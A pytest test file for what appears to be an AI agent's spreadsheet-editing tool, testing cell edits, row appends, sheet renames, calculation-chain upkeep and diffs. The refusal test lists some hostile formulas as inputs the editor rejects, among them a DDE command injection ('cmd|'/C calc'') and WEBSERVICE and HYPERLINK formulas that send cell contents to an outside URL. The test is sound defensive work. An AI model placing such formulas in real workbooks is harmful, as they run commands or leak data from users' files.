"""An edit of a workbook changes what it names, and nothing else."""

import datetime
import re
import zipfile

import openpyxl
import pytest
import xlsxwriter
from openpyxl.comments import Comment
from openpyxl.worksheet.formula import ArrayFormula
from openpyxl.worksheet.table import Table

from agent.core.documents import Difference
from agent.core.errors import InvalidArgumentsError, UnreadableError
from tests.agent.documents.told import told

moment = datetime.datetime.fromisoformat

DAY = moment("2026-11-01")


@pytest.fixture
def sales(tmp_path):
    """A table that ends in row 3, a total below another list, an array formula, merged cells, a comment."""
    book = openpyxl.Workbook()
    sheet = book["Sheet"]
    sheet.title = "売上 2026"
    sheet.append(["日付", "取引先", "数量", "単価", "金額"])
    sheet.append([DAY, "山田", 2, 10, "=C2*D2"])
    sheet.append([DAY, "佐藤", 3, 20, "=C3*D3"])
    for row in (2, 3):
        sheet.cell(row, 1).number_format = "yyyy/m/d"
        sheet.cell(row, 4).number_format = "#,##0"
    sheet.add_table(Table(displayName="Sales", ref="A1:E3"))
    sheet["B2"].comment = Comment("確認", "x")
    other = book.create_sheet("Other")
    other.append(["n", "='売上 2026'!E2", "x"])
    other.append([1, 2, 3])
    other.append([1, 2, 3])
    other["A4"] = "=SUM(A2:A3)"
    more = book.create_sheet("More")
    more["A1"] = ArrayFormula("A1:A2", "=B1:B2*2")
    more.merge_cells("C1:D2")
    book.create_sheet("Empty")
    book.save(tmp_path / "sales.xlsx")
    return tmp_path / "sales.xlsx"


def edited(documents, source, *ops):
    target = source.with_name("edited" + source.suffix)
    documents.edit(source, list(ops), target)
    documents.check(target)
    return target


def changed_parts(before, after) -> set[str]:
    """Members that are not the same bytes, compressed as they are, with the same headers."""
    found = set()
    with zipfile.ZipFile(before) as old, zipfile.ZipFile(after) as new:
        assert new.testzip() is None
        raw_old, raw_new = before.read_bytes(), after.read_bytes()
        for name in {*old.namelist(), *new.namelist()}:
            if name not in old.namelist() or name not in new.namelist():
                found.add(name)
                continue
            one, two = old.getinfo(name), new.getinfo(name)
            length = 30 + len(one.filename.encode()) + one.compress_size
            if raw_old[one.header_offset :][:length] != raw_new[two.header_offset :][:length]:
                found.add(name)
    return found


def cell(path, sheet, name):
    return openpyxl.load_workbook(path)[sheet][name]


def test_values_of_every_kind_are_set(documents, sales):
    cells = {
        "H1": 12.5, "H2": "=SUM(C2:C3)", "H3": " <&>\n'{0}' ", "H4": True, "H5": {"text": "=1+1"}, "H6": 10**14,
        "H7": {"type": "date", "value": "2026-11-23"}, "H8": {"type": "datetime", "value": "2026-11-23T14:30"},
        "H9": "_x0041_", "H10": {"formula": "=IFS(C2>1,\"a\")"}, "B2": None,
    }  # fmt: skip
    target = edited(documents, sales, {"op": "set_cells", "cells": cells})
    sheet = openpyxl.load_workbook(target)["売上 2026"]
    assert [sheet[f"H{row}"].value for row in range(1, 11)] == [
        12.5, "=SUM(C2:C3)", " <&>\n'{0}' ", True, "=1+1", 10**14, moment("2026-11-23"),
        moment("2026-11-23T14:30"), "_x005F_x0041_", '=_xlfn.IFS(C2>1,"a")',
    ]  # fmt: skip
    assert documents.tables(target, part="H9")[0].rows == (("_x0041_",),), "coded as Excel does it"
    assert sheet["H5"].data_type == "s"
    assert sheet["H7"].is_date
    assert sheet["B2"].value is None
    assert sheet["B2"].comment.text == "確認"


def test_a_text_becomes_a_date_where_dates_are_and_keeps_their_style(documents, sales):
    target = edited(
        documents, sales, {"op": "set_cells", "cells": {"A2": "2026-12-24", "A4": "2026-12-25", "G2": "2026-12-26"}}
    )
    sheet = openpyxl.load_workbook(target)["売上 2026"]
    assert (sheet["A2"].value, sheet["A2"].number_format) == (moment("2026-12-24"), "yyyy/m/d")
    assert (sheet["A4"].value, sheet["A4"].number_format) == (moment("2026-12-25"), "yyyy/m/d")
    assert sheet["G2"].value == "2026-12-26"


def test_only_the_named_part_changes(documents, sales):
    target = edited(documents, sales, {"op": "set_cells", "sheet": "Other", "cells": {"C2": 5}})
    assert changed_parts(sales, target) == {"xl/worksheets/sheet2.xml"}


def test_one_cell_changes_one_part_of_every_real_workbook(documents, real_files, tmp_path):
    done = locked = 0
    for source in real_files:
        if source.suffix not in {".xlsx", ".xlsm"}:
            continue
        target = tmp_path / f"out{source.suffix}"
        try:
            documents.edit(source, [{"op": "set_cells", "cells": {"XEU99991": "確認済み"}}], target)
        except UnreadableError:
            continue
        except InvalidArgumentsError as error:
            if "is locked by the author" not in str(error):
                raise
            locked += 1
            continue
        parts = changed_parts(source, target) - {"xl/workbook.xml", "xl/workbook22.xml"}
        assert len(parts) == 1, source.name
        assert "heet" in parts.pop(), source.name
        (one,) = documents.diff(source, target)
        assert (one.anchor.rpartition("!")[2], one.before, one.after) == ("XEU99991:XEU99991", "", "確認済み"), (
            source.name
        )
        done += 1
    assert (done, locked) == (63, 1)


def test_rows_are_appended_in_the_style_of_the_last_one_and_the_table_grows(documents, sales):
    rows = [["2026-11-05", "鈴木", 4, 30], ["2026-11-06", {"text": "=x"}, 5, 40, 7]]
    op = {"op": "append_rows", "sheet": "売上 2026", "rows": rows}
    target = edited(documents, sales, op)
    sheet = openpyxl.load_workbook(target)["売上 2026"]
    assert [one.value for one in sheet[4]] == [moment("2026-11-05"), "鈴木", 4, 30, "=C4*D4"]
    assert [one.value for one in sheet[5]] == [moment("2026-11-06"), "=x", 5, 40, 7]
    assert sheet["D5"].number_format == "#,##0"
    assert sheet.tables["Sales"].ref == "A1:E5"
    assert sheet.tables["Sales"].autoFilter is None or sheet.tables["Sales"].autoFilter.ref == "A1:E5"
    assert changed_parts(sales, target) == {"xl/worksheets/sheet1.xml", "xl/tables/table1.xml"}


def test_two_appends_of_one_edit_follow_each_other(documents, sales):
    op = {"op": "append_rows", "rows": [["2026-11-05", "鈴木", 4, 30]]}
    target = edited(documents, sales, op, op)
    sheet = openpyxl.load_workbook(target)["売上 2026"]
    assert (sheet["E5"].value, sheet.tables["Sales"].ref) == ("=C5*D5", "A1:E5")


def test_rows_are_appended_to_an_empty_sheet(documents, sales):
    target = edited(documents, sales, {"op": "append_rows", "sheet": "Empty", "rows": [["a", 1], ["b", None]]})
    assert [[one.value for one in row] for row in openpyxl.load_workbook(target)["Empty"]] == [["a", 1], ["b", None]]


def test_a_sheet_is_added(documents, sales):
    op = {"op": "add_sheet", "name": "R&D 'x", "rows": [["品目", "額"], ["鉛筆", 1], ["計", "=SUM(B2:B2)"]]}
    dates = {
        "op": "set_cells",
        "sheet": "R&D 'x",
        "cells": {"C1": {"type": "date", "value": "2026-01-02"}, "C2": "2026-01-03"},
    }
    target = edited(documents, sales, op, dates)
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["売上 2026", "Other", "More", "Empty", "R&D 'x"]
    assert [one.value for one in book["R&D 'x"]["B"]] == ["額", 1, "=SUM(B2:B2)"]
    assert book["R&D 'x"]["C1"].value == moment("2026-01-02")


def test_a_renamed_sheet_is_followed(documents, tmp_path):
    book = xlsxwriter.Workbook(tmp_path / "a.xlsx")
    first, second = book.add_worksheet("Data"), book.add_worksheet("Sum")
    first.write_column("A1", [1, 2, 3])
    second.write_formula("A1", "=SUM(Data!A1:A3)&\"Data!A1\"&'Data'!B1&Database!C1")
    second.write_url("B1", "internal:'Data'!A1")
    second.conditional_format("A1:A9", {"type": "formula", "criteria": "=Data!$A$1>1", "format": book.add_format()})
    book.add_worksheet("Database")
    book.define_name("Total", "=Data!$A$1:$A$3")
    chart = book.add_chart({"type": "line"})
    chart.add_series({"values": "=Data!$A$1:$A$3"})
    second.insert_chart("D1", chart)
    book.close()
    target = edited(documents, tmp_path / "a.xlsx", {"op": "rename_sheet", "sheet": "data", "name": "It's 1"})
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["It's 1", "Sum", "Database"]
    assert book["Sum"]["A1"].value == "=SUM('It''s 1'!A1:A3)&\"Data!A1\"&'It''s 1'!B1&Database!C1"
    assert book["Sum"]["B1"].hyperlink.location == "'It''s 1'!A1"
    assert book.defined_names["Total"].value == "'It''s 1'!$A$1:$A$3"
    with zipfile.ZipFile(target) as archive:
        assert b"'It''s 1'!$A$1:$A$3" in archive.read("xl/charts/chart1.xml")
        assert b"'It''s 1'!$A$1&gt;1" in archive.read("xl/worksheets/sheet2.xml")


def test_an_overwritten_formula_leaves_the_order_of_calculation(documents, real_files, tmp_path):
    """Else Excel offers to repair the file."""
    source = next(path for path in real_files if path.name.startswith("ironcalc-NPV"))
    target = tmp_path / "out.xlsx"
    documents.edit(source, [{"op": "set_cells", "cells": {"K2": 1, "K4": None}}], target)
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target) as new:
        before, after = old.read("xl/calcChain.xml"), new.read("xl/calcChain.xml")
    assert all(name in before and name not in after for name in (b'r="K2"', b'r="K4"'))
    assert before.count(b"<c ") == after.count(b"<c ") + 2
    assert changed_parts(source, target) == {"xl/calcChain.xml", "xl/worksheets/sheet1.xml"}


def test_rows_that_move_between_do_not_mix_up_the_order_of_calculation(documents, real_files, tmp_path):
    """The formula of K4 went, and what stands in K4 afterwards is another one."""
    source, target = next(path for path in real_files if path.name.startswith("ironcalc-NPV")), tmp_path / "out.xlsx"
    ops = [{"op": "set_cells", "cells": {"K4": 1}}, {"op": "insert_rows", "at": 1, "count": 1}]
    documents.edit(source, ops, target)
    with zipfile.ZipFile(target) as new:
        chain, sheet = new.read("xl/calcChain.xml"), new.read("xl/worksheets/sheet1.xml")
    named = set(re.findall(rb'<c r="(\w+)"', chain))
    assert named == set(re.findall(rb'<c r="(\w+)"[^>]*><f', sheet))


def test_a_workbook_whose_last_formula_goes_has_no_order_of_calculation_any_more(documents, real_files, tmp_path):
    """An empty one is not allowed."""
    source = next(path for path in real_files if path.name.startswith("oxsdk-ExternalLink"))
    target = tmp_path / "out.xlsx"
    documents.edit(source, [{"op": "set_cells", "cells": {"A2": 7}}], target)
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target) as new:
        assert "xl/calcChain.xml" in old.namelist()
        assert "xl/calcChain.xml" not in new.namelist()
        assert b"calcChain" not in new.read("xl/_rels/workbook.xml.rels") + new.read("[Content_Types].xml")
    assert cell(target, "Sheet1", "A2").value == 7


def test_the_workbook_asks_to_be_computed_when_results_may_be_old(documents, sales):
    target = edited(documents, sales, {"op": "set_cells", "sheet": "Other", "cells": {"A2": 5}})
    assert openpyxl.load_workbook(target).calculation.fullCalcOnLoad
    assert any("out of date" in fact for fact in told(documents.read(target)))


@pytest.mark.parametrize(
    "op",
    [
        {"op": "set_cells", "sheet": "More", "cells": {"A2": 1}},  # in an array formula
        {"op": "set_cells", "sheet": "More", "cells": {"D2": 1}},  # covered by merged cells
        {"op": "set_cells", "cells": {"B1": "=1"}},  # a title of a table is a text
        {"op": "set_cells", "sheet": "Nowhere", "cells": {"A1": 1}},
        {"op": "set_cells", "cells": {"XFE1": 1}},
        {"op": "set_cells", "cells": {"A0": 1}},
        {"op": "set_cells", "cells": {}},
        {"op": "set_cells", "cells": {"A9": [1]}},
        {"op": "set_cells", "cells": {"A9": "x" * 32_768}},
        {"op": "set_cells", "cells": {"A9": float("nan")}},
        {"op": "set_cells", "cells": {"A9": {"type": "date", "value": "tomorrow"}}},
        {"op": "set_cells", "cells": {"A9": "=SUM(A1"}},
        {"op": "set_cells", "cells": {"A9": '=WEBSERVICE("http://example.com/"&A1)'}},
        {"op": "set_cells", "cells": {"A9": "=cmd|'/C calc'!A0"}},
        {"op": "set_cells", "cells": {"A9": '=HYPERLINK("http://example.com/"&A1,"x")'}},
        {"op": "set_cells", "cells": {"A2": "=SORT(E1:E3)"}},  # may grow, in a table
        {"op": "set_cells", "cells": {"A9": "='[other.xlsx]S'!A1"}},
        {"op": "set_cells", "cells": {"A1:Z9000": 1}},
        {"op": "append_rows", "rows": [[1, 2, 3, 4, 5, 6]]},  # wider than the table
        {"op": "append_rows", "rows": [1]},
        {"op": "add_sheet", "name": "other"},
        {"op": "add_sheet", "name": "a/b"},
        {"op": "add_sheet", "name": "x" * 32},
        {"op": "rename_sheet", "sheet": "More", "name": "OTHER"},
        {"op": "delete_everything"},
    ],
)
def test_an_op_that_would_break_something_is_refused_and_nothing_is_written(documents, sales, op):
    with pytest.raises(InvalidArgumentsError):
        documents.edit(sales, [op], sales.with_name("out.xlsx"))
    assert not sales.with_name("out.xlsx").exists()


def test_the_first_cell_of_merged_ones_is_free(documents, sales):
    target = edited(documents, sales, {"op": "set_cells", "sheet": "More", "cells": {"C1": 1}})
    assert cell(target, "More", "C1").value == 1


def rewritten(source, target, sheet):
    """The same package with another first sheet."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(name, sheet if name == "xl/worksheets/sheet1.xml" else data)
    return target


MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ROWS = '<row><c><v>1</v></c><c><v>2</v></c></row><row r="5"/>'
BARE = f'<worksheet xmlns="{MAIN}"><sheetData>{ROWS}</sheetData></worksheet>'
PREFIXED = BARE.replace("<", "<x:").replace("<x:/", "</x:").replace("xmlns=", "xmlns:x=")
FORMS = {
    "no addresses": BARE.encode(),
    "a prefix": PREFIXED.encode(),
    "a mark": b"\xef\xbb\xbf" + BARE.encode(),
    "UTF-16": ('<?xml version="1.0" encoding="UTF-16"?>' + BARE).encode("utf-16"),
    "comments": BARE.replace("<row>", '<!-- <row r="1"><c r="A1"/></row> --><row>').encode(),
    "Latin": ('<?xml version="1.0" encoding="ISO-8859-1"?>' + BARE).encode("latin-1"),
}


@pytest.mark.parametrize("form", FORMS)
def test_sheets_are_edited_in_every_form_that_xml_can_have(documents, tmp_path, form):
    openpyxl.Workbook().save(tmp_path / "plain.xlsx")
    source = rewritten(tmp_path / "plain.xlsx", tmp_path / "form.xlsx", FORMS[form])
    target = edited(documents, source, {"op": "set_cells", "cells": {"B1": "二😀", "C1": 3, "A3": 4, "A5": 5}})
    (table, *_) = documents.tables(target)
    assert table.rows == ((1, "二😀", 3), (None,) * 3, (4, None, None), (None,) * 3, (5, None, None))
    sheet = openpyxl.load_workbook(target).worksheets[0]
    assert (sheet["B1"].value, sheet["A5"].value) == ("二😀", 5)


def test_differences_name_cells_with_their_formulas(documents, sales):
    target = edited(
        documents, sales,
        {"op": "set_cells", "cells": {"C2": 9, "E3": "=C3*D3*2"}},
        {"op": "add_sheet", "name": "New", "rows": [[1]]},
    )  # fmt: skip
    assert documents.diff(sales, target) == (
        Difference("'売上 2026'!C2", "2", "9", "value"),
        Difference("'売上 2026'!E3", "=C3*D3", "=C3*D3*2", "formula"),
        Difference("New", "", "sheet New", "added"),
        Difference("New!A1:A1", "", "1", "added"),
    )
    assert documents.diff(sales, sales) == ()
    assert documents.diff(None, sales)[0].before == ""


def test_texts_that_stay_texts_though_they_look_like_values_are_told(documents, sales):
    target = sales.with_name("edited.xlsx")
    said = documents.edit(
        sales,
        [{"op": "set_cells", "sheet": "Other", "cells": {"B2": "2,000円", "C2": "'00017", "C3": "words"}}],
        target,
    )
    assert "Texts that look like numbers, dates or formulas, not counted by formulas: '2,000円'" in said[0].en
    assert "words" not in said[0].en
    assert openpyxl.load_workbook(target)["Other"]["C2"].value == "00017"
    (rows, *_) = documents.edit(
        sales, [{"op": "append_rows", "sheet": "売上 2026", "rows": [["2026-11-05", "x", "3 "]]}], target
    )
    assert "'3 '" in rows.en
    assert "2026-11-05" not in rows.en
